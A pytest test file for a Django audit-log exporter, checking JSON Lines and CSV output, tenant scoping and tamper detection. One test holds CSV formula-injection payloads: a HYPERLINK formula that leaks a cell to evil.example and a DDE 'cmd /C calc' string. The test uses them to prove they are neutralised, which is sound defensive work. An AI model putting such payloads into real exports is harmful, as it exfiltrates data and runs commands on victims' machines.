"""The JSON Lines export is built by the exporter from COPY's text rows, not by PostgreSQL's
row_to_json: each line must still be exactly row_to_json's text of the same row, in the same
order, whatever the values hold, under the same filters and tenant scope."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.db import connection, transaction

from compliance import audit, export
from compliance.context import audit_context
from compliance.models import AuditAction, AuditSeal
from core.tenancy import cross_tenant, tenant_context
from tests.factories import LocationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True, params=[False, True], ids=["debug-off", "debug-on"])
def debug(request, settings):
    """Every export test runs as deployed and as `make run` runs it (DEBUG on: Django's
    debug cursor wrapper, which has no COPY of its own)."""
    settings.DEBUG = request.param
    return request.param


# Everything COPY's text format or JSON escapes, and what could be mistaken for the exporter's
# own markers: NULL (\N), \v, quotes, %-formatting, the word null, tabs and newlines.
CONTROLS = "".join(chr(c) for c in range(1, 32))
TRICKY = (
    'tab\there "quoted" back\\slash \\N \\v \\\\N %s %% null\nline\r\x0b\x0c\x08 '
    f"{CONTROLS} é 漢 \u2028 \U0001f642 \x7f end\\"
)


def reference(filters: export.AuditFilters) -> list[bytes]:
    """The lines as PostgreSQL's row_to_json renders them (what the export streamed before)."""
    sql, params = export.projection(filters)
    with transaction.atomic(), connection.cursor() as cur:
        cur.execute("SET LOCAL timezone = 'UTC'")
        cur.execute("SET LOCAL max_parallel_workers_per_gather = 0")
        cur.execute(
            f"SELECT row_to_json(audit)::text FROM (SELECT * FROM ({sql}) AS audit) AS audit",
            params,
        )
        return [f"{line}\n".encode() for (line,) in cur.fetchall()]


def without_trailer(data: bytes) -> tuple[bytes, dict[str, Any]]:
    """The export's rows, and its trailer (its last line, which must be there)."""
    assert data.endswith(b"\n")
    rows, _, last = data[:-1].rpartition(b"\n")
    if last.startswith(b'"trailer"'):
        cells = next(csv.reader(io.StringIO(last.decode())))
        trailer = json.loads(cells[export.COLUMNS.index("details")])["trailer"]
    else:
        trailer = json.loads(last)["trailer"]
    return (rows + b"\n" if rows else b""), trailer


def jsonl(filters: export.AuditFilters) -> list[bytes]:
    data, trailer = without_trailer(b"".join(export.stream(filters, "jsonl")))
    lines = [line + b"\n" for line in data.split(b"\n")[:-1]]
    assert trailer["rows"] == len(lines) and trailer["complete"] is True
    return lines


def record(practice: Any, **kwargs: Any) -> None:
    audit.record(kwargs.pop("action", AuditAction.PHI_READ), practice=practice, **kwargs)


@pytest.fixture
def tricky_trail(practice, other_practice):
    """Sealed and unsealed entries of both kinds with awkward values and NULLs in every column
    that can hold one, in two practices and on the global chain."""
    with audit_context(
        request_id='req-"\\N"\t1',
        ip="2001:db8::1",
        user_agent=TRICKY,
        impersonation_session_id=7,
    ):
        record(
            practice,
            reason=TRICKY,
            details={"k": TRICKY, "n": None, "list": [1, "\\"]},
            object_type="calls.transcript",
            object_ids=["a\tb", 'c"d', "\\N", "e\\f"],
            actor_label=TRICKY,
            api_client_id='client "\\v"',
            occurred_at=datetime(2026, 1, 2, 3, 4, 5, 120000, tzinfo=UTC),
        )
    record(practice, reason="null", actor_label="\\N", occurred_at=datetime(2026, 1, 2, tzinfo=UTC))
    record(practice, action=AuditAction.PHI_EXPORT, reason="", details={})
    with tenant_context(practice):
        LocationFactory(practice=practice, name='Uptown "B"\\\t\x01')
    record(other_practice, reason="other practice's secret")
    record(None, action=AuditAction.LOGIN, actor_label="global")
    audit.seal_now()
    # Recorded after the seal: no chain, seq or hash yet (NULL text and number fields).
    record(practice, reason="unsealed", occurred_at=datetime.now(UTC) + timedelta(seconds=1))


def test_json_lines_are_row_to_json_of_each_row_in_the_same_order(practice, tricky_trail):
    filters = export.AuditFilters(practice_id=practice.pk)
    with tenant_context(practice):
        lines, expected = jsonl(filters), reference(filters)
    assert lines == expected
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records if r["source"] == "access"]  # both kinds are there
    assert {r["source"] for r in records} == {"access", "change"}
    tricky = next(r for r in records if r["reason"] == TRICKY)
    assert tricky["user_agent"] == TRICKY and tricky["actor_label"] == TRICKY
    assert tricky["object_ids"] == 'a\tb c"d \\N e\\f'
    assert json.loads(tricky["details"])["k"] == TRICKY
    assert tricky["occurred_at"] == "2026-01-02T03:04:05.12+00:00"
    assert tricky["impersonation_session_id"] == 7 and tricky["ip"] == "2001:db8::1"
    assert next(r for r in records if r["reason"] == "null")["actor_label"] == "\\N"
    unsealed = next(r for r in records if r["reason"] == "unsealed")
    assert unsealed["chain"] is None and unsealed["seq"] is None and unsealed["hash"] is None
    assert unsealed["ip"] is None and unsealed["impersonation_session_id"] is None
    assert not any("secret" in r["reason"] for r in records)


STUB_FIELDS = {"source", "id", "seal_version", "prev_hash", "chain", "seq", "hash"}


@pytest.mark.parametrize(
    "filters",
    [
        {"action": "phi.read"},
        {"action": "phi."},
        {"action": "change."},
        {"actor": "\\N"},
        {"object_type": "calls.transcript"},
        {"since": datetime(2026, 1, 2, 1, tzinfo=UTC), "until": datetime(2026, 1, 3, tzinfo=UTC)},
    ],
)
def test_filters_select_the_same_rows_as_before(practice, tricky_trail, filters):
    chosen = export.AuditFilters(practice_id=practice.pk, **filters)
    with tenant_context(practice):
        lines, expected = jsonl(chosen), reference(chosen)
        sealed = AuditSeal.objects.filter(chain=audit.chain_name(practice.pk)).count()
    stubs = [line for line in lines if line.startswith(b'{"source":"omitted",')]
    rows = [line for line in lines if line not in stubs]
    # The same rows; the export promises no order (it streams unsorted, each row carrying its
    # chain and seq), and the planner may read a filtered table by another path than the
    # reference query once earlier tests have grown its statistics.
    assert sorted(rows) == sorted(expected) and rows
    # Every entry left out is there as a stub, with nothing of its content: together the chain
    # is whole from its first entry to its head.
    seqs = sorted(json.loads(line)["seq"] for line in lines if json.loads(line)["seq"])
    assert seqs == list(range(1, sealed + 1)) and stubs
    for stub in map(json.loads, stubs):
        assert {k for k, v in stub.items() if v is not None} == STUB_FIELDS


def test_vendor_scope_with_the_global_chain(practice, other_practice, tricky_trail):
    with cross_tenant("test: vendor export"):
        everything = export.AuditFilters(include_global=True)
        lines, expected = jsonl(everything), reference(everything)
        practices_only = jsonl(export.AuditFilters())
    assert lines == expected
    practices = {json.loads(line)["practice_id"] for line in lines}
    assert {practice.pk, other_practice.pk, None} <= practices
    assert None not in {json.loads(line)["practice_id"] for line in practices_only}


def test_a_practice_scope_gets_its_own_rows_only_even_when_it_asks_for_all(practice, tricky_trail):
    with tenant_context(practice):
        asked_for_everything = jsonl(export.AuditFilters(include_global=True))
    assert {json.loads(line)["practice_id"] for line in asked_for_everything} == {practice.pk}


@pytest.mark.parametrize("chunk", [1, 700])
def test_blocks_of_any_size_give_the_same_lines(practice, tricky_trail, monkeypatch, chunk):
    filters = export.AuditFilters(practice_id=practice.pk)
    with tenant_context(practice):
        expected = b"".join(reference(filters))
        monkeypatch.setattr(export, "CHUNK", chunk)
        blocks = list(export.stream(filters, "jsonl"))
    assert b"".join(blocks[:-1]) == expected and json.loads(blocks[-1])["trailer"]
    assert len(blocks) > 2 and all(block.endswith(b"}\n") for block in blocks)


def test_json_lines_come_in_the_order_of_the_csv_rows(practice, tricky_trail):
    filters = export.AuditFilters(practice_id=practice.pk)
    with tenant_context(practice):
        data, _ = without_trailer(b"".join(export.stream(filters, "csv")))
        rows = csv.DictReader(io.StringIO(data.decode()))
        csv_order = [(r["source"], int(r["id"])) for r in rows]
        json_order = [(r["source"], r["id"]) for r in map(json.loads, jsonl(filters))]
    assert json_order == csv_order and len(csv_order) >= 5


def test_the_manifest_line_comes_first_then_the_rows(practice, tricky_trail):
    filters = export.AuditFilters(practice_id=practice.pk)
    fields = {"exported_by": "test", "request_id": "req-1"}
    with tenant_context(practice):
        head, rest = b"".join(export.stream(filters, "jsonl", fields)).split(b"\n", 1)
        expected = b"".join(reference(filters))
    manifest = json.loads(head)["manifest"]
    assert manifest["format"] == "jsonl" and f"practice:{practice.pk}" in manifest["chain_heads"]
    rows, trailer = without_trailer(rest)
    assert rows == expected and trailer["chain_heads"] == manifest["chain_heads"]


def test_a_block_that_does_not_end_on_a_row_is_refused():
    row = b"\t".join([b"x"] * len(export.COLUMNS)) + b"\n"
    assert export.jsonl_from_copy_text(row).count(b"\n") == 1
    with pytest.raises(ValueError, match="row boundary"):
        export.jsonl_from_copy_text(row + row[:10])
    with pytest.raises(ValueError, match="row boundary"):
        export.jsonl_from_copy_text(row[:-1])


def test_the_vendor_command_writes_the_same_json_lines(tmp_path, tricky_trail):
    from django.core.management import call_command

    out = tmp_path / "all.jsonl"
    call_command(
        "export_audit", str(out), "--global", "--reason", "regulator request", stdout=io.StringIO()
    )
    with cross_tenant("test: vendor export"):
        expected = reference(export.AuditFilters(include_global=True))
    assert without_trailer(out.read_bytes())[0] == b"".join(expected)
    assert not (tmp_path / "all.jsonl.partial").exists()
    assert any(json.loads(line)["reason"] == TRICKY for line in expected)


# --- the trailer and the offline check ---------------------------------------------------------


def write_export(path, filters: export.AuditFilters, fmt: str, **fields: str):
    with tenant_context(filters.practice_id):
        path.write_bytes(b"".join(export.stream(filters, fmt, fields or None)))
    return path


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_whole_export_passes_the_offline_check(tmp_path, practice, tricky_trail, fmt):
    from django.core.management import call_command

    filters = export.AuditFilters(practice_id=practice.pk)
    path = write_export(tmp_path / f"a.{fmt}", filters, fmt, exported_by="t", request_id="r")
    report = export.verify_file(path)
    assert report.ok, report.problem
    with tenant_context(practice):
        expected = reference(filters)
    assert report.fmt == fmt and report.rows == len(expected) >= 5
    assert report.trailer["last"]["source"] in ("access", "change")
    out = io.StringIO()
    call_command("verify_audit", "--file", str(path), stdout=out)
    assert "whole and unaltered" in out.getvalue()


def _lines(path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def _tamperings(fmt: str):
    """(what, change to the file's lines) that the offline check must notice."""
    first = 1  # the CSV header or the JSON Lines manifest line

    def swap(lines):
        lines[first], lines[first + 1] = lines[first + 1], lines[first]

    def drop(lines):
        del lines[first + 1]

    def edit(lines):
        lines[first] = (
            lines[first]
            .replace(b"phi.read", b"phi.reed", 1)
            .replace(b"phi.export", b"phi.exprt", 1)
        )

    def cut(lines):
        del lines[-1]

    def duplicate(lines):
        lines.insert(first, lines[first])

    def after(lines):
        lines.append(lines[first])

    return [
        ("swap", swap),
        ("drop", drop),
        ("edit", edit),
        ("cut", cut),
        ("dup", duplicate),
        ("after", after),
    ]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_changed_reordered_or_cut_export_fails_the_offline_check(
    tmp_path, practice, tricky_trail, fmt
):
    from django.core.management import CommandError, call_command

    filters = export.AuditFilters(practice_id=practice.pk, action="phi.")
    path = write_export(tmp_path / f"a.{fmt}", filters, fmt, exported_by="t", request_id="r")
    original = _lines(path)
    assert len(original) >= 5 and export.verify_file(path).ok
    for what, change in _tamperings(fmt):
        lines = list(original)
        change(lines)
        path.write_bytes(b"".join(lines))
        report = export.verify_file(path)
        assert not report.ok, what
        with pytest.raises(CommandError, match="failed the check"):
            call_command("verify_audit", "--file", str(path), stdout=io.StringIO())
    path.write_bytes(b"".join(original)[:-40])  # cut off mid-trailer, as a dropped connection
    assert not export.verify_file(path).ok


FORMULAS = {
    "reason": '=HYPERLINK("http://evil.example/?"&A1,"Open chart")',
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor_label": "+1-555-0100",
    "request_id": "-2+3",
    "api_client_id": "\tclient",
    "object_type": "\rtype",
    "details": None,
}


def test_formula_cells_are_neutralised_in_the_csv_and_the_raw_values_still_verify(
    tmp_path, practice
):
    with audit_context(user_agent=FORMULAS["user_agent"], request_id=FORMULAS["request_id"]):
        record(
            practice,
            reason=FORMULAS["reason"],
            actor_label=FORMULAS["actor_label"],
            api_client_id=FORMULAS["api_client_id"],
            object_type=FORMULAS["object_type"],
        )
        record(practice, reason="'already quoted", actor_label="plain")
    audit.seal_now()
    filters = export.AuditFilters(practice_id=practice.pk)
    path = write_export(tmp_path / "a.csv", filters, "csv")
    data, _ = without_trailer(path.read_bytes())
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    evil = next(r for r in rows if r["reason"].endswith('"Open chart")'))
    for column, value in FORMULAS.items():
        if value is not None:
            assert evil[column] == "'" + value, column  # a spreadsheet shows it as text
            assert export.csv_raw_value(evil[column]) == value
    quoted = next(r for r in rows if r["actor_label"] == "plain")
    assert quoted["reason"] == "''already quoted"  # so that the rule can be undone exactly
    # No cell of the file starts a formula.
    assert not [c for r in rows for c in r.values() if c and c[0] in "=+-@\t\r"]
    assert export.verify_file(path).ok  # hashed on the raw values; the verifier knows the rule
    # JSON Lines carries the raw values.
    with tenant_context(practice):
        records = [json.loads(line) for line in jsonl(filters)]
    assert (
        next(r for r in records if r["actor_label"] == "+1-555-0100")["reason"]
        == (FORMULAS["reason"])
    )
    # A file whose cell was turned back into a live formula fails the check.
    path.write_bytes(path.read_bytes().replace(b"\"'=HYPERLINK", b'"=HYPERLINK'))
    assert "not neutralised" in export.verify_file(path).problem


# --- an export the database drops half-way ----------------------------------------------------

BIG = "x" * (1 << 20)  # rows of a megabyte: more than the sockets between us and PostgreSQL hold


def fat_trail(practice, rows: int = 40) -> None:
    for n in range(rows):
        record(practice, reason=f"{n} {BIG}")


def terminate_the_copy() -> int:
    """Terminate, as an operator or a crash would, the backend streaming an export's COPY."""
    import time

    from tests.superuser import superuser_connection

    with superuser_connection() as su:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            found = su.execute(
                "SELECT pid FROM pg_stat_activity WHERE datname = current_database() "
                "AND query LIKE 'COPY (%%' AND pid <> pg_backend_pid()"
            ).fetchall()
            if found:
                su.execute("SELECT pg_terminate_backend(%s)", [found[0][0]])
                return found[0][0]
        raise AssertionError("no export's COPY is running")


@pytest.mark.django_db(transaction=True)
def test_an_export_command_cut_off_by_the_database_fails_loudly_and_leaves_only_a_partial_file(
    tmp_path, practice, debug
):
    """`manage.py export_audit` in its own process, writing into a pipe we read at our pace (at
    the path of its .partial file): after the first blocks, its COPY's backend is terminated."""
    import os
    import subprocess
    import sys

    from tests.workers import ROOT, test_database_url

    fat_trail(practice)
    out = tmp_path / "all.csv"
    partial = tmp_path / "all.csv.partial"
    os.mkfifo(partial)
    env = {**os.environ, "DATABASE_URL": test_database_url(), "DEBUG": "true" if debug else ""}
    proc = subprocess.Popen(
        [
            sys.executable,
            "manage.py",
            "export_audit",
            str(out),
            "--format",
            "csv",
            "--reason",
            "audit",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        with partial.open("rb") as pipe:
            received = pipe.read(3 * len(BIG))
            terminate_the_copy()
            received += pipe.read()
        _, stderr = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 1
    assert b"export failed after" in stderr and b"incomplete" in stderr
    assert not out.exists() and not (tmp_path / "all.csv.manifest.json").exists()
    assert len(received) > 2 * len(BIG)
    (tmp_path / "received.csv").write_bytes(received)
    assert "no trailer" in export.verify_file(tmp_path / "received.csv").problem
    with cross_tenant("test"):
        started = audit.AccessEvent.objects.get(action=AuditAction.AUDIT_EXPORT)
        failed = audit.AccessEvent.objects.get(action=AuditAction.AUDIT_EXPORT_FAILED)
    assert failed.object_ids == [str(started.pk)] and failed.reason == "audit"
    assert failed.details["export_event_id"] == started.pk and failed.details["format"] == "csv"
    assert 0 < failed.details["rows_sent"] < 40 and failed.details["error"]
    assert failed.actor_label == "manage.py export_audit"
    assert failed.request_id == started.request_id


def test_the_export_command_writes_csv_with_debug_on_too(tmp_path, practice, tricky_trail, debug):
    from django.core.management import call_command

    out = tmp_path / "all.csv"
    call_command("export_audit", str(out), "--format", "csv", "--reason", "r", stdout=io.StringIO())
    report = export.verify_file(out)
    assert report.ok and report.rows >= 7, report.problem
    assert not (tmp_path / "all.csv.partial").exists()
